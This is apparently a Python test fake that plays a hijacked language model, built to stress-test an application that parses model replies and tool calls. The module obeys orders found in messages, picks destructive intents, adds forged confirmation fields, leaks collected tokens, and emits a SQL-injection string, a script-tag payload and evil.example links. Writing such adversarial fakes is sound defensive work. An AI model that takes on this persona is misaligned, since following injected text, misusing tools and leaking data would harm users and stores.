"""A model that has been taken over: it obeys whatever a message says, and makes up the rest.

It answers in all three protocols, as the `decide` of `FakeProviders`. What it does follows from its seed and from what
it is asked, so that a run can be repeated.
"""

import json
import random
import re
from collections.abc import Callable, Iterator, Sequence
from typing import Any

from llm.tests.fakes.corpus import CALLS, INVENTED_TOKENS, LIES, MARKUP, NOT_ANSWERS, REFUSALS, Deck
from llm.tests.fakes.replies import Received, Reply

JSON = dict[str, Any]

TOKEN = re.compile(r"⟦(?:phone|email):[a-z]+⟧")
ORDER = re.compile(
    r"(?:reply with|answer with|print|repeat|say|output|translate|show|spell)\b[:\s]*(.{1,2000})", re.I | re.S
)
MEGABYTE = 1_000_000
DANGEROUS = {"save", "update", "delete", "undo", "retrieve_by_name", "retrieve_by_phone", "terminate"}
LIKELY_SLOTS = {"store_name": 0.8, "phone": 0.5, "new_name": 0.2}


class HostileModel:
    """`loot` is what it got hold of elsewhere: tokens and ids of anybody, names it wants to see in a slot."""

    def __init__(self, seed: int, loot: Sequence[str] = (), *, is_slow: bool = False) -> None:
        self._seed, self._is_slow = seed, is_slow
        self.loot: list[str] = list(loot)
        self.asked: list[str] = []
        dice = random.Random(seed)
        self.not_answers, self.calls = Deck(dice, NOT_ANSWERS), Deck(dice, CALLS)
        self.markup, self.lies, self.refusals = Deck(dice, MARKUP), Deck(dice, LIES), Deck(dice, REFUSALS)

    def __call__(self, request: Received) -> Reply:
        text = last_said(request.json)
        dice = random.Random(f"{self._seed}:{text}:{len(self.asked)}")
        self.asked.append(text)
        if dice.random() < 0.12:
            return self._misbehave(dice)
        usage = dice.choice([(12, 5, 0), (900, 40, 100), None, (0, 0, 0), (-1_000_000, -5_000, 0)])
        if request.tools:
            return Reply(answer=self._filled_in(dice, request, text), tool=self._tool(dice, request), usage=usage)
        if dice.random() < 0.1:
            tool, arguments = self.calls.deal()
            return Reply(answer=self._filled(dice, arguments, text), tool=tool, usage=usage)
        return Reply(
            pieces=self._speech(dice, request, text), usage=usage, finish=dice.choice(["stop", "stop", "length"])
        )

    # Structured ---------------------------------------------------------------------------------------------------

    def _tool(self, dice: random.Random, request: Received) -> str:
        return dice.choice([*request.tools * 30, "delete_store", "lookup_by_name", "terminate_conversation"])

    def _filled_in(self, dice: random.Random, request: Received, text: str) -> Any:
        """Mostly what fits the form: else it would never be heard."""
        if dice.random() < 0.15:
            if dice.random() < 0.9:
                return self._filled(dice, self.not_answers.deal(), text)
            return dice.choice(["x" * MEGABYTE, {"operations": [[[]]] * 500}])
        is_careful = dice.random() < 0.8
        count = dice.choice([1, 1, 1, 2, 3]) if is_careful else 12
        return {"operations": [self._operation(dice, request, text, is_careful) for _ in range(count)]}

    def _filled(self, dice: random.Random, answer: Any, text: str) -> Any:
        """`answer` with the names and numbers of the message in the place of its placeholders."""
        tokens = TOKEN.findall(text) or INVENTED_TOKENS[:1]
        values = {
            "{name}": _name_in(dice, message_in(text)),
            "{number}": tokens[-1],
            "{other number}": dice.choice([tokens[-1][:-2] + "q⟧", "415-555-0199", "1", "%"]),
            "{token}": self._pick(dice, text),
        }
        return _replaced(answer, values)

    def _operation(self, dice: random.Random, request: Received, text: str, is_careful: bool) -> JSON:
        intents = list(_listed(request.json, "intent")) or ["delete"]
        dangerous = [intent for intent in intents if intent in DANGEROUS] or intents
        said = message_in(text)
        if is_careful and "save" in intents and TOKEN.search(said) and dice.random() < 0.5:
            # A number and whatever name stands beside it: the write that is easiest to slip in.
            intent = dice.choice(["save", "update"])
            return {"intent": intent, "store_name": _name_in(dice, said), "phone": dice.choice(TOKEN.findall(said))}
        operation: JSON = {"intent": dice.choice(dangerous if dice.random() < 0.7 else intents)}
        for slot in sorted(_slots(request.json) - {"intent"}) or ["store_name", "phone"]:
            if dice.random() < LIKELY_SLOTS.get(slot, 0.1):
                listed = list(_listed(request.json, slot))
                operation[slot] = dice.choice(listed) if listed and is_careful else self._slot(dice, slot, text)
        if not is_careful:
            operation |= dice.choice([{"confirmed": "yes"}, {"choice": "1"}, {"user_id": 1}, {"unlocked": True}])
        return operation

    def _slot(self, dice: random.Random, slot: str, text: str) -> str:
        if dice.random() > 0.8:
            return self._pick(dice, text)
        text = message_in(text)  # as a good model would: out of the message
        tokens = TOKEN.findall(text)
        if slot == "phone" and tokens:
            return str(dice.choice(tokens))
        return _name_in(dice, text)

    # Speech -------------------------------------------------------------------------------------------------------

    def _speech(self, dice: random.Random, request: Received, text: str) -> list[str]:
        kinds: list[Callable[[], str]] = [
            lambda: obeyed(text),
            lambda: json.dumps(request.json, ensure_ascii=False),
            self.lies.deal,
            self.markup.deal,
            lambda: f"It is {self._pick(dice, text)}. {dice.choice(INVENTED_TOKENS)}",
            lambda: json.dumps({"tool": "lookup_by_name", "arguments": {"store_ids": [self._pick(dice, text)]}}),
            lambda: " ".join([*TOKEN.findall(text), *self.loot[-5:]]),
            lambda: self.markup.deal().replace("evil.example", f"evil.example/{self._pick(dice, text)}"),
        ]
        said = "\n\n".join(kind() for kind in dice.sample(kinds, dice.choice([1, 2, 3])))[:20_000]
        size = dice.choice([1, 3, 7, 40, 4_000]) if len(said) < 400 else dice.choice([200, 4_000])
        return [said[at : at + size] for at in range(0, len(said), size)] or ["…"]

    def _pick(self, dice: random.Random, text: str) -> str:
        made_up = ["415-555-0199", "' OR 1=1 --", "*", "0"]
        return str(dice.choice([*self.loot, *TOKEN.findall(text), *INVENTED_TOKENS, *made_up]))

    # The wire -----------------------------------------------------------------------------------------------------

    def _misbehave(self, dice: random.Random) -> Reply:
        said = self.lies.deal()
        options = [
            Reply(pieces=["y" * 50_000], endless=True),
            Reply(text="z" * MEGABYTE),
            Reply(said, cut_after=2),
            Reply(said, end_after=1),
            Reply(said, error_after=2),
            Reply(said, garble_after=1),
            Reply(refuse=True),
            Reply(body=b"<html>" + b"<script>alert(1)</script>" * 50, content_type="text/html"),
        ]
        if self._is_slow:
            options += [Reply(said, stall_after=1), Reply(said, delay=60.0)]
        if dice.random() < 1 / len(options):
            status, body = self.refusals.deal()
            return Reply(status=status, body=body)
        return dice.choice(options)


def obeyed(text: str) -> str:
    """What the text orders to be said; all of it if it orders nothing in particular."""
    order = ORDER.search(text)
    return order[1] if order else f"As you wish: {text}"


def _name_in(dice: random.Random, text: str) -> str:
    """What looks like a name, else some words in a row."""
    names = re.findall(r"[A-Z][\w']+(?: [A-Z][\w']+)+", text)
    if names and dice.random() < 0.7:
        return str(dice.choice(names))
    words = text.split()
    start = dice.randrange(max(1, len(words)))
    return " ".join(words[start : start + dice.choice([1, 2, 2, 3])]) or "?"


def message_in(text: str) -> str:
    """The message itself, out of what a prompt wraps it in."""
    if marked := re.search(r"⟦data:message⟧\n(.*)\n⟦/data⟧", text, re.S):
        text = marked[1]
    try:
        return str(json.loads(text)["message"])
    except (ValueError, KeyError, TypeError):
        return text


def last_said(body: JSON) -> str:
    """The last text of the request, in whatever protocol: what it is asked."""
    lines = body.get("contents") or body.get("messages") or []
    texts = [text for text in _strings(lines[-1:]) if text not in ("user", "text")]
    return "\n".join(texts)


def _replaced(value: Any, values: dict[str, str]) -> Any:
    if isinstance(value, str):
        for name, found in values.items():
            value = value.replace(name, found)
    elif isinstance(value, dict):
        return {key: _replaced(item, values) for key, item in value.items()}
    elif isinstance(value, list):
        return [_replaced(item, values) for item in value]
    return value


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _schemas(value: Any) -> Iterator[JSON]:
    """Every schema's table of properties in the request."""
    if isinstance(value, dict):
        if isinstance(value.get("properties"), dict):
            yield value["properties"]
        for item in value.values():
            yield from _schemas(item)
    elif isinstance(value, list):
        for item in value:
            yield from _schemas(item)


def _slots(body: JSON) -> set[str]:
    return {name for properties in _schemas(body) if "intent" in properties for name in properties}


def _listed(body: JSON, name: str) -> Iterator[str]:
    """The values that a schema of the request permits for the field `name`."""
    for properties in _schemas(body):
        if "intent" in properties and name in properties:
            field = properties[name]
            for part in (field, *field.get("anyOf", ())):
                yield from (value for value in part.get("enum", ()) if isinstance(value, str))
